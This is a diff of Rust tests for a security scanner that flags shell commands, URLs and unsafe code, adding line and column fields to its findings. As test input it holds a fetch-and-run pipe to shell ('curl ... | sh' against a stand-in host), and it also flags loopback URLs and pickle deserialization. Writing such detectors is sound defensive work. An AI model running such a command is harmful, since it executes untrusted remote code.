@@ -54,7 +54,9 @@ fn shell_kind_blocks_an_obfuscated_pipe_to_shell() {
           "type": "SHELL_COMMAND",
           "severity": "CRITICAL",
           "excerpt": "curl -s https://x.example/i | sh",
-          "offset": 0
+          "offset": 0,
+          "line": 1,
+          "column": 1
         }
       ],
       "incomplete": false
@@ -85,7 +87,15 @@ fn every_kind_answers_in_the_contract_shape() {
         assert_eq!(value["verdict"], verdict, "{kind} {text}: {value}");
         assert_eq!(value["incomplete"], false);
         for finding in value["findings"].as_array().unwrap() {
-            for key in ["patternId", "type", "severity", "excerpt", "offset"] {
+            for key in [
+                "patternId",
+                "type",
+                "severity",
+                "excerpt",
+                "offset",
+                "line",
+                "column",
+            ] {
                 assert!(finding.get(key).is_some(), "{kind}: {finding} lacks {key}");
             }
             assert!(finding["excerpt"].as_str().unwrap().chars().count() <= 200);
@@ -109,7 +119,9 @@ fn url_kind_reports_the_refusal_reason() {
           "type": "URL_POLICY",
           "severity": "CRITICAL",
           "excerpt": "URL refused (LOOPBACK): 127.0.0.1 is a loopback address",
-          "offset": 0
+          "offset": 0,
+          "line": 1,
+          "column": 1
         }
       ],
       "incomplete": false
@@ -133,7 +145,7 @@ fn file_and_stdin_inputs_and_text_output() {
     assert_eq!(output.status.code(), Some(0));
     insta::assert_snapshot!(String::from_utf8(output.stdout).unwrap(), @r"
     verdict: warn
-    - WARNING code.unsafe-deserialize (CODE_SECURITY) at 41: pickle.loads(
+    - WARNING code.unsafe-deserialize (CODE_SECURITY) at app.py:2:5: pickle.loads(
     ");
 
     let output = auto_swe(
